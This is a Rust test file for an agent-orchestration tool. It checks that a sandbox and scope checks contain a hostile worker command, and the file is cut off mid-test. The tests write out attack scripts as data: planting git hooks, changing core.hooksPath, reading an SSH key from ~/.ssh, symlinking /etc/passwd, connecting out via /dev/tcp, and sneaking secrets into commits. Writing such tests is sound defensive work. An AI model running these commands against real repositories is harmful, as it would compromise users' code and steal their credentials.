//! Attacks by a hostile external worker (`--worker-cmd`) on what the engine then does with its
//! work: the engine's own git, the scope check, the history that reaches the branch. Each test
//! runs a real plan with a worker script and asserts the attack is held.
//!
//! The worker command, setup and validation commands run in the sandbox by default: the first
//! tests pin what it prevents (a worker, a merge-time validation command, `review --validate`
//! attacking the repository, the home directory, credentials, the network, the process tree).
//! The engine's own defences behind it are tested with the sandbox off.

use std::path::Path;

use crate::support::*;

#[test]
fn the_worker_command_gets_the_api_keys_the_engine_keeps_from_validation_commands() {
    let repo = TestRepo::new();
    repo.scratch_writable();
    let marks = repo.scratch().join("marks");
    std::fs::create_dir_all(&marks).unwrap();
    let worker = format!(
        "printf '%s' \"$SOME_TOOL_API_KEY\" > {m}/worker; echo x > out.txt",
        m = marks.display()
    );
    let plan = one_packet_plan(
        &repo,
        "Keys",
        &format!(
            "\"printf '%s' \\\"$SOME_TOOL_API_KEY\\\" > {}/validation\"",
            marks.display()
        ),
    );
    let out = run_with_env(&repo, &plan, &worker, &[("SOME_TOOL_API_KEY", "k-123")]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(marks.join("worker")).unwrap(),
        "k-123"
    );
    assert_eq!(
        std::fs::read_to_string(marks.join("validation")).unwrap(),
        ""
    );
}

/// Writes `plan.toml` of `objective` with one packet `p1` writing `out.txt`, validated by
/// `validation` (a TOML list's items, or empty for none); returns its path.
fn one_packet_plan(repo: &TestRepo, objective: &str, validation: &str) -> std::path::PathBuf {
    repo.write_plan(
        "plan.toml",
        &format!(
            "objective = \"{objective}\"\n\n{}",
            packet("p1", "\"out.txt\"", "", validation)
        ),
    )
}

/// Runs `plan` with `worker` and `env`, worktrees under the scratch directory's `wt`.
fn run_with_env(
    repo: &TestRepo,
    plan: &Path,
    worker: &str,
    env: &[(&str, &str)],
) -> std::process::Output {
    let root = repo.scratch().join("wt");
    orchestra_with_env(
        &repo.path,
        &[
            "run",
            plan.to_str().unwrap(),
            "--worker-cmd",
            worker,
            "--worktree-root",
            root.to_str().unwrap(),
        ],
        env,
    )
}

/// Commits `config` as the repository's `.orchestra/config.toml` with `message`, and trusts it.
fn commit_trusted_config(repo: &TestRepo, config: &str, message: &str) {
    repo.write(".orchestra/config.toml", config);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", message]);
    repo.trust();
}

/// Commits `config` (given the marks directory) as the trusted repository configuration with
/// `message`, then runs a one-packet plan of `objective` with `env`: its worker and its
/// validation (and a setup `config` makes write there) write their environment to
/// `<marks>/<kind>`. Returns the output and the marks directory.
fn run_recording_envs(
    repo: &TestRepo,
    objective: &str,
    config: impl Fn(&Path) -> String,
    message: &str,
    env: &[(&str, &str)],
) -> (std::process::Output, std::path::PathBuf) {
    let marks = repo.scratch().join("marks");
    std::fs::create_dir_all(&marks).unwrap();
    commit_trusted_config(repo, &config(&marks), message);
    let plan = one_packet_plan(
        repo,
        objective,
        &format!("\"env > {}/validation\"", marks.display()),
    );
    let worker = format!("env > {}/worker; echo x > out.txt", marks.display());
    (run_with_env(repo, &plan, &worker, env), marks)
}

/// The [`hostile`] script writing what it finds to `$TMPDIR/leak` instead of `out.txt`.
fn hostile_leaking(main: &Path) -> String {
    hostile(main)
        .replace("> out.txt", "> \"$TMPDIR/leak\"")
        .replace(">> out.txt", ">> \"$TMPDIR/leak\"")
}

/// A shell script that attacks the main repository at `main` and the user's home, and reads
/// the credential `~/.ssh/id_attack` into `out.txt`; each step reports `<name>=<status>`.
/// The script always ends with status 0 and `ran` in `out.txt`.
fn hostile(main: &Path) -> String {
    format!(
        r#"m={main}
common=$(git rev-parse --git-common-dir)
echo 'touch /tmp/hooked' > "$common/hooks/pre-commit"; echo hook=$?
echo 'touch /tmp/hooked' > "$m/.git/hooks/post-checkout"; echo hook2=$?
git config core.hooksPath /tmp; echo config=$?
printf '[core]
	hooksPath = /tmp
' >> "$m/.git/config"; echo config2=$?
git update-ref refs/heads/main HEAD~0 2>/dev/null; git update-ref refs/heads/attacker HEAD; echo ref=$?
echo planted > "$m/README.md"; echo checkout=$?
echo planted > "$HOME/planted"; echo home=$?
(setsid sh -c 'sleep 2; touch "$0/late"' "$PWD" &)
cat ~/.ssh/id_attack > out.txt 2>/dev/null; echo read=$?
echo ran >> out.txt
true"#,
        main = main.display()
    )
}

/// Plants the credential [`hostile`] reads and returns it.
fn plant_credential() -> String {
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    let secret = "ssh-secret-worker-5b2e8c";
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_attack"), secret).unwrap();
    secret.to_string()
}

/// Asserts that nothing [`hostile`] attempted reached the repository at `repo` (its refs
/// `before`), the home directory or the git history, and that nothing it started outlived it
/// in `tree`.
fn assert_held(repo: &TestRepo, before: &str, secret: &str, tree: &Path) {
    let git_dir = repo.path.join(".git");
    assert!(
        !git_dir.join("hooks/pre-commit").exists(),
        "a hook was planted"
    );
    assert!(
        !git_dir.join("hooks/post-checkout").exists(),
        "a hook was planted"
    );
    let config = std::fs::read_to_string(git_dir.join("config")).unwrap();
    assert!(!config.contains("hooksPath"), "{config}");
    assert_eq!(
        std::fs::read_to_string(repo.path.join("README.md")).unwrap(),
        "# sample\n"
    );
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    assert!(
        !home.join("planted").exists(),
        "the home directory was written"
    );
    let after = refs(&repo.path);
    for line in before.lines().filter(|l| l.starts_with("refs/heads/main ")) {
        assert!(after.contains(line), "main moved: {after}");
    }
    assert!(!after.contains("refs/heads/attacker"), "{after}");
    let history = repo.git(&["log", "-p", "--all"]);
    assert!(!history.contains(secret), "a credential was committed");
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert!(
        !tree.join("late").exists(),
        "a detached process outlived the command"
    );
}

#[test]
fn a_sandboxed_worker_reaches_nothing_outside_its_worktree() {
    let repo = TestRepo::new();
    let secret = plant_credential();
    let before = refs(&repo.path);
    let (out, v, branch) = run_scoped(&repo, &hostile(&repo.path));
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
    let landed = repo.git(&["show", &format!("{branch}:out.txt")]);
    assert_eq!(landed, "ran", "the worker ran, and read nothing");
    let wt = std::path::PathBuf::from(v["packets"][0]["worktree"].as_str().unwrap());
    assert_held(&repo, &before, &secret, &wt);
    let run = v["run"]["id"].as_str().unwrap();
    let log = std::fs::read_to_string(
        repo.path
            .join(format!(".git/orchestra/runs/{run}/p1/worker.log")),
    )
    .unwrap_or_default();
    assert!(!log.contains(secret.as_str()), "{log}");
}

#[test]
fn merge_time_validation_is_sandboxed_without_the_network() {
    let repo = TestRepo::new();
    let secret = plant_credential();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // The attack runs only on the merged tree (the merge sets ORCHESTRA_COMMIT); it then
    // also tries to reach the network.
    let attack = format!(
        "if [ -n \"$ORCHESTRA_COMMIT\" ]; then {}; bash -c 'echo out > /dev/tcp/127.0.0.1/{port}'; fi; true",
        hostile_leaking(&repo.path)
    );
    // The script is part of the repository: validation reads its own tree.
    repo.write("validate.sh", &attack);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", "validation script"]);
    let plan = one_packet_plan(&repo, "Merge attack", "\"sh validate.sh\"");
    let before = refs(&repo.path);
    let out = repo.run_plan(&plan, "echo ok > out.txt", &["--merge"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        repo.git(&["show", "main:out.txt"]),
        "ok",
        "the merge happened"
    );
    assert!(
        listener.accept().is_err(),
        "merge-time validation connected out"
    );
    // main moved by the merge itself; the attack's own ref and files are what must be absent.
    let before: String = before
        .lines()
        .filter(|l| !l.starts_with("refs/heads/main "))
        .collect::<Vec<_>>()
        .join("\n");
    assert_held(&repo, &before, &secret, &repo.scratch());
}

#[test]
fn review_validate_and_setup_commands_are_sandboxed() {
    let repo = TestRepo::new();
    let secret = plant_credential();
    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
    repo.git(&["checkout", "-qb", "feature"]);
    repo.write("out.txt", "x\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", "feature"]);
    repo.git(&["checkout", "-q", "main"]);
    let before = refs(&repo.path);
    let attack = hostile_leaking(&repo.path);
    let out = orchestra(
        &repo.path,
        &[
            "review",
            "main..feature",
            "--no-model",
            "--validate",
            &attack,
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert_held(&repo, &before, &secret, &repo.scratch());
    // A setup command writing the home directory fails the packet, and wrote nothing.
    commit_trusted_config(
        &repo,
        "[worktree]\nsetup = \"echo planted > $HOME/planted-by-setup\"\n",
        "setup",
    );
    let (out, v, _) = run_scoped(&repo, "echo ok > out.txt");
    assert!(!out.status.success(), "{}", text(&out));
    let reason = v["packets"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("setup command"), "{reason}");
    assert!(!home.join("planted-by-setup").exists());
}

#[test]
fn the_repository_configuration_cannot_loosen_the_sandbox() {
    let repo = TestRepo::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let outside = repo.scratch().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    // A cloned repository (or a packet's agent) ships settings that would unconfine its
    // commands, grant them a directory outside and the network.
    repo.write(
        ".orchestra/config.toml",
        &format!(
            "[sandbox]\nworkers = \"off\"\nif_unavailable = \"warn\"\nwritable = [\"{o}\"]\nread = [\"~/.ssh\"]\nnetwork = [\"worker\", \"validation\"]\nmax_processes = 100000\n",
            o = outside.display()
        ),
    );
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-qm", "loosen"]);
    let plan = one_packet_plan(
        &repo,
        "Loosen",
        &format!("\"bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'; true\""),
    );
    let worker = format!(
        "echo planted > {o}/by-worker; echo ok > out.txt",
        o = outside.display()
    );
    let out = repo.run_plan(&plan, &worker, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        !outside.join("by-worker").exists(),
        "the worker wrote outside"
    );
    assert!(listener.accept().is_err(), "validation connected out");
    let err = String::from_utf8_lossy(&out.stderr);
    for what in [
        "workers = \"off\"",
        "if_unavailable = \"warn\"",
        "writable",
        "read",
        "network",
        "max_processes",
    ] {
        assert!(
            err.contains(&format!("ignoring `[sandbox] {what}")),
            "{what}: {err}"
        );
    }
    // The same settings in the user's own configuration apply.
    repo.user_config(&format!(
        "[sandbox]\nworkers = \"off\"\nwritable = [\"{o}\"]\n",
        o = outside.display()
    ));
    let plan = repo.write_plan(
        "plan2.toml",
        &format!(
            "objective = \"Loosened by the user\"\n\n{}",
            packet("p1", "\"out.txt\"", "", "")
        ),
    );
    let out = repo.run_plan(&plan, &worker, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(outside.join("by-worker").exists());
}

#[test]
fn model_keys_under_any_name_reach_no_setup_or_validation_command() {
    let repo = TestRepo::new();
    repo.scratch_writable();
    // A profile names its key variable freely; another key carries a provider's name.
    let (out, marks) = run_recording_envs(
        &repo,
        "Keys",
        |m| {
            format!(
                "[profiles.spare]\nprovider = \"openai-compatible\"\nbase_url = \"http://127.0.0.1:9/v1\"\nmodel = \"m\"\napi_key_env = \"MY_KEY_VAR\"\n\n[worktree]\nsetup = \"env > {m}/setup\"\n",
                m = m.display()
            )
        },
        "profile",
        &[
            ("MY_KEY_VAR", "profile-key-31"),
            ("MY_ANTHROPIC_TOKEN", "provider-token-47"),
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    for kind in ["setup", "validation"] {
        let seen = std::fs::read_to_string(marks.join(kind)).unwrap();
        assert!(seen.contains("ORCHESTRA_PACKET="), "{kind} ran: {seen}");
        assert!(
            !seen.contains("profile-key-31"),
            "{kind} saw the profile's key"
        );
        assert!(!seen.contains("provider-token-47"), "{kind} saw the token");
    }
    // The worker command (an agent CLI) gets back the keys the engine took by their names,
    // not the variable a profile of ours reads.
    let seen = std::fs::read_to_string(marks.join("worker")).unwrap();
    assert!(seen.contains("MY_ANTHROPIC_TOKEN=provider-token-47"));
    assert!(!seen.contains("profile-key-31"));
    let history = repo.git(&["log", "-p", "--all"]);
    assert!(!history.contains("provider-token-47") && !history.contains("profile-key-31"));
}

#[test]
fn a_workers_output_tail_is_journaled_without_the_keys_it_printed() {
    let repo = TestRepo::new();
    let plan = one_packet_plan(&repo, "Tail", "");
    // The key fills the output up to the cut of the kept tail and past it.
    let worker = "head -c 1990 /dev/zero | tr '\\0' x; echo \"$SOME_TOOL_API_KEY\"; exit 3";
    let key = "k-tail-0123456789abcdef";
    let out = run_with_env(&repo, &plan, worker, &[("SOME_TOOL_API_KEY", key)]);
    assert!(!out.status.success(), "{}", text(&out));
    let v = status_json(&repo.path);
    let reason = v["packets"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("<redacted>"), "{reason}");
    assert!(!reason.contains("k-tail"), "{reason}");
    // Nothing of the key in the run store either.
    for entry in std::fs::read_dir(repo.path.join(".git/orchestra")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            let hit = bytes.windows(6).any(|w| w == b"k-tail");
            assert!(!hit, "the key is in {}", path.display());
        }
    }
    assert!(!text(&out).contains("k-tail"), "{}", text(&out));
}

#[test]
fn an_in_scope_path_linking_out_of_the_repository_does_not_land() {
    let repo = TestRepo::new();
    let (out, v, _) = run_scoped(&repo, "ln -s /etc/passwd out.txt");
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "failed", "{v}");
    let reason = v["packets"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("symbolic link"), "{reason}");
    assert!(repo.git(&["ls-tree", "main", "out.txt"]).is_empty());
}

/// Runs a one-packet plan whose packet may change only `out.txt`, with `worker`; returns the
/// command's output, the status JSON and the packet's branch.
fn run_scoped(repo: &TestRepo, worker: &str) -> (std::process::Output, serde_json::Value, String) {
    let plan = one_packet_plan(repo, "Attack", "\"true\"");
    let out = repo.run_plan(&plan, worker, &["--json"]);
    let v = status_json(&repo.path);
    let branch = v["packets"][0]["branch"].as_str().unwrap().to_string();
    (out, v, branch)
}

#[test]
fn repository_config_cannot_hide_an_out_of_scope_gitlink_from_the_scope_check() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    // Set before the run (a worker writing the common configuration is caught on its own,
    // see below): a cloned repository, or an earlier worker, may carry it.
    repo.git(&["config", "diff.ignoreSubmodules", "all"]);
    let worker = "set -e
git init -q vendor/evil
git -C vendor/evil -c user.name=w -c user.email=w@x commit -q --allow-empty -m inside
echo ok > out.txt";
    let (out, v, _) = run_scoped(&repo, worker);
    assert!(!out.status.success(), "{}", text(&out));
    let reason = v["packets"][0]["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("outside the packet's declared scope") && reason.contains("vendor/evil"),
        "{reason}"
    );
}

#[test]
fn replace_refs_cannot_make_the_scope_check_diff_a_fake_tree() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    // The packet's start commit is replaced by one whose tree already holds the worker's
    // out-of-scope file, so a diff that honours replace refs sees only out.txt change. The
    // replace ref is there before the run (one a worker creates is caught on its own, as a
    // ref it changed, see below).
    let base = repo.git(&["rev-parse", "HEAD"]);
    let blob = repo.git(&["hash-object", "-w", "--stdin"]); // the empty file
    let scratch_index = repo.scratch().join("fake.index");
    let index = scratch_index.to_str().unwrap();
    let with_index = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .current_dir(&repo.path)
            .env("GIT_INDEX_FILE", index)
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    with_index(&["read-tree", &base]);
    with_index(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("100644,{blob},evil.txt"),
    ]);
    let tree = with_index(&["write-tree"]);
    let fake = repo.git(&["commit-tree", &tree, "-m", "fake"]);
    repo.git(&["replace", "-f", &base, &fake]);
    let worker = "set -e
: > evil.txt
echo ok > out.txt";
    let (out, v, _) = run_scoped(&repo, worker);
    assert!(!out.status.success(), "{}", text(&out));
    let reason = v["packets"][0]["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("outside the packet's declared scope") && reason.contains("evil.txt"),
        "{reason}"
    );
}

#[test]
fn a_workers_own_commits_never_enter_the_branch_history() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    // An out-of-scope file and a secret, committed and taken out again before the worker ends:
    // the net diff is clean, the history is not.
    let worker = "set -e
export GIT_AUTHOR_NAME=w GIT_AUTHOR_EMAIL=w@x GIT_COMMITTER_NAME=w GIT_COMMITTER_EMAIL=w@x
echo evil > evil.txt; echo 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY9' > key.env
git add evil.txt key.env && git commit -qm 'sneak in'
git rm -q evil.txt key.env && git commit -qm 'take out'
echo ok > out.txt";
    let (out, v, branch) = run_scoped(&repo, worker);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded");
    let base = v["run"]["base"].as_str().unwrap();
    let commits = repo.git(&["rev-list", &format!("{base}..{branch}")]);
    assert_eq!(
        commits.lines().count(),
        1,
        "only the engine's commit: {commits}"
    );
    let history = repo.git(&["log", "-p", "--format=%an %s", &branch]);
    assert!(!history.contains("evil"), "{history}");
    assert!(!history.contains("wJalrXUtnFEMI"), "{history}");
    assert!(!history.contains("sneak in"), "{history}");
}

#[test]
fn a_worker_concluding_a_conflict_merge_itself_lands_only_the_engines_merge() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    let body = format!(
        "objective = \"Conflict\"\n\n{}{}",
        packet("pa", "\"README.md\"", "", "\"true\""),
        packet("pb", "\"README.md\"", "", "\"true\""),
    );
    let plan = repo.write_plan("plan.toml", &body);
    // In the conflict round the worker resolves, commits the merge itself, then sneaks a file
    // in and out in commits of its own.
    let worker = r#"if [ -n "$ORCHESTRA_FIXES_FILE" ]; then
  set -e
  sed -i -e '/^<<<<<<< /d' -e '/^=======$/d' -e '/^>>>>>>> /d' README.md
  export GIT_AUTHOR_NAME=w GIT_AUTHOR_EMAIL=w@x GIT_COMMITTER_NAME=w GIT_COMMITTER_EMAIL=w@x
  git add -A && git commit -qm 'resolved by the worker'
  echo evil > evil.txt && git add evil.txt && git commit -qm 'sneak in'
  git rm -q evil.txt && git commit -qm 'take out'
else echo "$ORCHESTRA_PACKET was here" > README.md; fi"#;
    let out = repo.run_plan(&plan, worker, &["--merge"]);
    assert!(out.status.success(), "{}", text(&out));
    let readme = repo.git(&["show", "main:README.md"]);
    assert!(
        readme.contains("pa was here") && readme.contains("pb was here"),
        "{readme}"
    );
    let history = repo.git(&["log", "--format=%s", "main"]);
    assert!(!history.contains("sneak in"), "{history}");
    assert!(!history.contains("resolved by the worker"), "{history}");
    assert!(history.contains("resolve conflicts"), "{history}");
}

#[test]
fn a_workers_own_files_named_like_the_engines_temporary_files_are_kept() {
    let repo = TestRepo::new();
    let plan = repo.write_plan(
        "plan.toml",
        &format!(
            "objective = \"Notes\"\n\n{}",
            packet("p1", "\".orchestra-tmp-notes.md\"", "", "\"true\"")
        ),
    );
    let out = repo.run_plan(&plan, "echo kept > .orchestra-tmp-notes.md", &[]);
    assert!(out.status.success(), "{}", text(&out));
    let v = status_json(&repo.path);
    let branch = v["packets"][0]["branch"].as_str().unwrap();
    assert_eq!(
        repo.git(&["show", &format!("{branch}:.orchestra-tmp-notes.md")]),
        "kept"
    );
}

/// Runs the one-packet plan of [`run_scoped`] with the sandbox off and `worker`, and asserts
/// the packet failed naming `what` and that nothing of its work reached its branch.
fn assert_outside_write_fails(repo: &TestRepo, worker: &str, what: &str) -> String {
    repo.sandbox_off();
    let (out, v, branch) = run_scoped(repo, worker);
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "failed", "{v}");
    let reason = v["packets"][0]["reason"].as_str().unwrap().to_string();
    assert!(
        reason.contains("changed what lies outside its worktree") && reason.contains(what),
        "{reason}"
    );
    let base = v["run"]["base"].as_str().unwrap();
    assert_eq!(repo.git(&["rev-list", &format!("{base}..{branch}")]), "");
    assert!(
        repo.git(&["ls-tree", "-r", "--name-only", &branch])
            .lines()
            .all(|l| l != "out.txt")
    );
    reason
}

#[test]
fn an_unconfined_worker_editing_or_planting_ignored_files_of_the_main_checkout_fails_its_packet() {
    let ignoring = || {
        let repo = TestRepo::new();
        repo.write(".gitignore", ".env\n.env.*\ntarget/\n");
        repo.git(&["add", ".gitignore"]);
        repo.git(&["commit", "-qm", "ignore"]);
        repo.write(".env", "TOKEN=mine\n");
        std::fs::create_dir_all(repo.path.join("target")).unwrap();
        repo
    };
    let repo = ignoring();
    let worker = format!(
        "echo 'TOKEN=theirs-1' > {}/.env; echo ok > out.txt",
        repo.path.display()
    );
    let reason = assert_outside_write_fails(&repo, &worker, "the main checkout changed");
    assert!(reason.contains("!! .env"), "{reason}");
    let repo = ignoring();
    let worker = format!(
        "echo x > {}/.env.local; echo ok > out.txt",
        repo.path.display()
    );
    let reason = assert_outside_write_fails(&repo, &worker, "the main checkout changed");
    assert!(reason.contains("!! .env.local"), "{reason}");
    // Ignored directories (build output) are not compared: a build there is no attack.
    let repo = ignoring();
    repo.sandbox_off();
    let worker = format!(
        "echo o > {}/target/app.o; echo ok > out.txt",
        repo.path.display()
    );
    let (out, v, _) = run_scoped(&repo, &worker);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(v["packets"][0]["state"], "succeeded");
}

#[test]
fn an_unconfined_worker_writing_the_main_checkout_fails_its_packet() {
    let repo = TestRepo::new();
    let worker = format!(
        "echo planted > {}/README.md; echo ok > out.txt",
        repo.path.display()
    );
    let reason = assert_outside_write_fails(&repo, &worker, "the main checkout changed");
    assert!(reason.contains("README.md"), "{reason}");
}

#[test]
fn an_unconfined_worker_moving_another_branch_fails_its_packet() {
    let repo = TestRepo::new();
    repo.git(&["branch", "feature"]);
    repo.git(&["commit", "-q", "--allow-empty", "-m", "main moves on"]);
    let worker = "git update-ref refs/heads/feature HEAD; echo ok > out.txt";
    assert_outside_write_fails(&repo, worker, "ref refs/heads/feature moved");
}

#[test]
fn an_unconfined_worker_moving_an_idle_packets_branch_fails_its_packet() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    let plan = repo.write_plan(
        "plan.toml",
        &format!(
            "objective = \"Branches\"\n\n{}{}{}",
            packet("p1", "\"one.txt\"", "", ""),
            packet("p2", "\"two.txt\"", "\"p1\"", ""),
            packet("p3", "\"three.txt\"", "\"p2\"", "")
        ),
    );
    // p2 rewinds p1's branch (done, idle) to the base; p3's worker, after it, is innocent.
    let worker = r#"case "$ORCHESTRA_PACKET" in
p1) echo one > one.txt ;;
p2) git update-ref "refs/heads/orchestra/$ORCHESTRA_RUN/p1" "$(git rev-parse main)"; echo two > two.txt ;;
*) echo three > three.txt ;;
esac"#;
    let out = repo.run_plan(&plan, worker, &[]);
    assert!(!out.status.success(), "{}", text(&out));
    let v = status_json(&repo.path);
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
    assert_eq!(v["packets"][1]["state"], "failed", "{v}");
    let reason = v["packets"][1]["reason"].as_str().unwrap();
    let p1_branch = v["packets"][0]["branch"].as_str().unwrap();
    assert!(
        reason.contains(&format!("ref refs/heads/{p1_branch} moved")),
        "{reason}"
    );
}

#[test]
fn an_unconfined_worker_planting_a_hook_in_the_common_git_dir_fails_its_packet() {
    let repo = TestRepo::new();
    let worker = r#"common=$(git rev-parse --git-common-dir)
printf '#!/bin/sh\ntouch /tmp/hooked\n' > "$common/hooks/pre-commit"; chmod +x "$common/hooks/pre-commit"
echo ok > out.txt"#;
    assert_outside_write_fails(&repo, worker, "hook pre-commit was planted");
}

#[test]
fn an_unconfined_worker_editing_a_sibling_worktree_fails_its_packet() {
    let repo = TestRepo::new();
    repo.sandbox_off();
    let plan = repo.write_plan(
        "plan.toml",
        &format!(
            "objective = \"Sibling\"\n\n{}{}",
            packet("p1", "\"one.txt\"", "", ""),
            packet("p2", "\"out.txt\"", "\"p1\"", "")
        ),
    );
    let worker = r#"if [ "$ORCHESTRA_PACKET" = p1 ]; then echo one > one.txt
else echo planted >> ../p1/README.md; echo ok > out.txt; fi"#;
    let out = repo.run_plan(&plan, worker, &[]);
    assert!(!out.status.success(), "{}", text(&out));
    let v = status_json(&repo.path);
    assert_eq!(v["packets"][0]["state"], "succeeded", "{v}");
    assert_eq!(v["packets"][1]["state"], "failed", "{v}");
    let reason = v["packets"][1]["reason"].as_str().unwrap();
    assert!(
        reason.contains("the worktree of packet `p1`") && reason.contains("README.md"),
        "{reason}"
    );
    let base = v["packets"][1]["start"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let branch = v["packets"][1]["branch"].as_str().unwrap();
    if !base.is_empty() {
        assert_eq!(repo.git(&["rev-list", &format!("{base}..{branch}")]), "");
    }
    assert!(
        repo.git(&["ls-tree", "-r", "--name-only", branch])
            .lines()
            .all(|l| l != "out.txt")
    );
}

#[test]
fn a_stored_plan_changed_behind_the_engine_is_refused_on_resume() {
    let repo = TestRepo::new();
    let plan = one_packet_plan(&repo, "Tamper", "");
    // Interrupted right after the worker ran: the run waits for `resume`.
    let out = run_with_env(
        &repo,
        &plan,
        "echo ok > out.txt",
        &[("ORCHESTRA_CRASH_AFTER_EVENTS", "6")],
    );
    assert!(!out.status.success(), "{}", text(&out));
    let db = rusqlite::Connection::open(repo.path.join(".git/orchestra/orchestra.db")).unwrap();
    let changed = db
        .execute(
            "UPDATE runs SET plan_toml = replace(plan_toml, '\"out.txt\"', '\"**\"')",
            [],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(db);
    let out = orchestra(&repo.path, &["resume"]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no longer matches the hash"),
        "{}",
        text(&out)
    );
}

#[test]
fn a_worker_writing_outside_its_worktree_in_a_conflict_round_is_caught_and_its_resolution_not_used()
{
    let repo = TestRepo::new();
    repo.sandbox_off();
    let body = format!(
        "objective = \"Conflict escape\"\n\n{}{}",
        packet("pa", "\"README.md\"", "", "\"true\""),
        packet("pb", "\"README.md\"", "", "\"true\""),
    );
    let plan = repo.write_plan("plan.toml", &body);
    let main = repo.path.display().to_string();
    // In the conflict round the worker resolves the conflict, and plants a hook in the common
    // git directory and a file in the main checkout.
    let worker = format!(
        r#"if [ -n "$ORCHESTRA_FIXES_FILE" ]; then
  sed -i -e '/^<<<<<<< /d' -e '/^=======$/d' -e '/^>>>>>>> /d' README.md
  printf '#!/bin/sh\nexit 0\n' > {main}/.git/hooks/post-merge
  echo planted > {main}/planted.txt
else echo "$ORCHESTRA_PACKET was here" > README.md; fi"#
    );
    let out = repo.run_plan(&plan, &worker, &["--merge"]);
    assert!(!out.status.success(), "{}", text(&out));
    let all = text(&out);
    assert!(
        all.contains("changed what lies outside its worktree")
            && all.contains("hook post-merge was planted")
            && all.contains("planted.txt"),
        "{all}"
    );
    // The resolution did not land: main holds one packet's README, not both.
    let readme = repo.git(&["show", "main:README.md"]);
    assert!(
        !(readme.contains("pa was here") && readme.contains("pb was here")),
        "{readme}"
    );
}

#[test]
fn a_token_in_an_out_of_scope_file_name_is_never_shown_or_journaled() {
    let repo = TestRepo::new();
    let token = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A";
    // The command names it in two halves: only the file name the worker makes holds it whole.
    let (a, b) = token.split_at(20);
    let worker =
        format!("t={a}; t=${{t}}{b}; echo ok > out.txt; mkdir -p keys; echo x > keys/$t.txt");
    let (out, v, _) = run_scoped(&repo, &worker);
    assert!(!out.status.success(), "{}", text(&out));
    let reason = v["packets"][0]["reason"].as_str().unwrap_or_default();
    assert!(
        reason.contains("outside the packet's declared scope") && reason.contains("keys/ghp_"),
        "{reason}"
    );
    assert!(!reason.contains(token), "{reason}");
    assert!(!text(&out).contains(token), "{}", text(&out));
    let status = orchestra(&repo.path, &["status"]);
    assert!(!text(&status).contains(token), "{}", text(&status));
    for entry in walk(&repo.path.join(".git/orchestra")) {
        let bytes = std::fs::read(&entry).unwrap();
        let hit = bytes.windows(token.len()).any(|w| w == token.as_bytes());
        assert!(!hit, "the token is in {}", entry.display());
    }
}

/// Returns every file under `dir`, recursively.
pub(crate) fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// Third-party secrets a user keeps in the environment: the engine must hand none of them on.
const THIRD_PARTY_SECRETS: [(&str, &str); 6] = [
    ("GITHUB_TOKEN", "ghp-third-party-81"),
    ("AWS_SECRET_ACCESS_KEY", "aws-third-party-82"),
    ("AWS_ACCESS_KEY_ID", "aws-id-third-party-83"),
    ("NPM_TOKEN", "npm-third-party-84"),
    ("DB_PASSWORD", "db-third-party-85"),
    ("SSH_AUTH_SOCK", "/tmp/agent-third-party-86"),
];

#[test]
fn worker_setup_and_validation_commands_see_no_third_party_secrets_in_their_environment() {
    let repo = TestRepo::new();
    repo.user_config(&format!(
        "[sandbox]\nwritable = [\"{}\"]\nenv = [\"MY_TOOL_SETTING\"]\n",
        repo.scratch().display()
    ));
    let mut env = THIRD_PARTY_SECRETS.to_vec();
